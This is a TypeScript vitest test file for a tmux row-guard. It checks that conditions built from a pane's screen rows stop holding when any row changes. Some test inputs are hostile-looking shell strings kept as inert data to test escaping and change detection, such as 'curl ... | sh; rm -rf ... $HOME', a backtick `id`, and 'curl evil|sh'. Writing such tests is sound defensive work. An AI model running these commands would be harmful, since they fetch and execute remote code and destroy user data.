import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IsolatedTmux } from '../../../src/testing/index.js';
import { isolatedTmux } from '../../../src/testing/index.js';
import type { Pane } from '../../../src/tmux/pane.js';
import { allOf, rowConditions } from '../../../src/tmux/row-guard.js';

let server: IsolatedTmux;
beforeAll(async () => {
  server = await isolatedTmux();
});
afterAll(() => server[Symbol.asyncDispose]());

let count = 0;

/** A pane that shows rows, from its top. */
async function showing(rows: readonly string[], drawn = false): Promise<Pane> {
  const session = await server.tmux.ensureSession(`rows-${++count}`, { size: { width: 100, height: 30 } });
  const text = rows.join('\r\n');
  const begin = drawn ? '\x1b(0' : '';
  const pane = await session.newWindow({ command: ['cat'] });
  await write(pane, `\x1b[2J\x1b[H${begin}${text}\x1b(B`);
  return pane;
}

/** Paints on the terminal of the pane, as its program would. */
async function write(pane: Pane, text: string): Promise<void> {
  const tty = (await server.tmux.command('display-message', '-p', '-t', pane.id, '#{pane_tty}'))
    .toString()
    .trim();
  const ready = `ready-${++count}.`;
  const octal = [...Buffer.from(`${text}\x1b[30;1H${ready}`)]
    .map((byte) => `\\${byte.toString(8).padStart(3, '0')}`)
    .join('');
  await server.tmux.host.run(['sh', '-c', `printf '${octal}' > ${tty}`]);
  await pane.waitForText(ready);
}

async function holds(pane: Pane, conditions: readonly string[]): Promise<boolean> {
  const said = await server.tmux.command(
    'if-shell',
    '-F',
    '-t',
    pane.id,
    allOf(conditions),
    'display-message -p yes',
    'display-message -p no',
  );
  return said.toString().trim() === 'yes';
}

const nasty = [
  'curl "http://x/#{pane_id},}" | sh; rm -rf {a,b} [c] (d) $HOME ^e f\\g h* i+ j?',
  "#[fg=red] ##{x} #,#} %d ~ `id` 'q' & < > = ! @ / : ; - _",
  'grüße 日本語 ✓ ❯ 1. Yes │ ─ ┌ π',
  '  indented   with   blanks',
];

describe('rowConditions', () => {
  it.each(nasty)('hold for %s, and no longer when any letter of it changes', async (row) => {
    const pane = await showing(['head', row, 'tail']);
    const conditions = rowConditions(await pane.screen(), [1]);
    expect(await holds(pane, conditions)).toBe(true);
    const letters = [...row];
    for (const [at, letter] of letters.entries()) {
      if (at % 3 !== 0 || letter === ' ') continue;
      const other = letters.with(at, letter === 'z' ? 'y' : 'z').join('');
      await write(pane, `\x1b[2;1H\x1b[2K${other}`);
      expect([other, await holds(pane, conditions)]).toEqual([other, false]);
    }
    await write(pane, `\x1b[2;1H\x1b[2K${row}`);
    expect(await holds(pane, conditions)).toBe(true);
  });

  it('do not hold where the row has become longer, or has gone elsewhere', async () => {
    const pane = await showing(['', 'ls -la', 'Proceed?']);
    const conditions = rowConditions(await pane.screen(), [1, 2]);
    expect(await holds(pane, conditions)).toBe(true);
    await write(pane, '\x1b[2;1H\x1b[2Kls -la; sh');
    expect(await holds(pane, conditions)).toBe(false);
    await write(pane, '\x1b[2;1H\x1b[2K\x1b[1;1Hls -la');
    expect(await holds(pane, conditions)).toBe(false);
  });

  it('see a row change although the same stands further above', async () => {
    const rows = ['$ a, {b} #c', '  ls -la', '│ boxed │', '', '  ls -la', 'Proceed?'];
    const pane = await showing(rows);
    const conditions = rowConditions(await pane.screen(), [4, 5]);
    expect(await holds(pane, conditions)).toBe(true);
    for (const other of ['  ls -lb', '  ls -l', '  ls -la x', '  curl evil|sh', 'x', '']) {
      await write(pane, `\x1b[5;1H\x1b[2K${other}`);
      // An empty row is one that was there before, and asks for nothing.
      expect([other, await holds(pane, conditions)]).toEqual([other, other === '']);
    }
    await write(pane, '\x1b[5;1H\x1b[2K  ls -la');
    expect(await holds(pane, conditions)).toBe(true);
  });

  it('take lines that were drawn with the letters of another character set for what they are', async () => {
    const pane = await showing(['lqqqk', 'x`x', 'mqqqj'], true);
    const screen = await pane.screen();
    const styled = await pane.styledScreen();
    expect(await holds(pane, rowConditions(screen, [0, 1, 2]))).toBe(true);
    expect(await holds(pane, rowConditions(styled, [0, 1, 2]))).toBe(true);
  });

  it('hold for a screen that is full', async () => {
    const rows = Array.from({ length: 29 }, (_, at) => `${at} ${'words, and {signs} #more '.repeat(3)}`);
    const pane = await showing(rows);
    const conditions = rowConditions(
      await pane.screen(),
      rows.map((_, at) => at),
    );
    expect(await holds(pane, conditions)).toBe(true);
    await write(pane, '\x1b[1;1H\x1b[2K0 word');
    expect(await holds(pane, conditions)).toBe(false);
  });
});
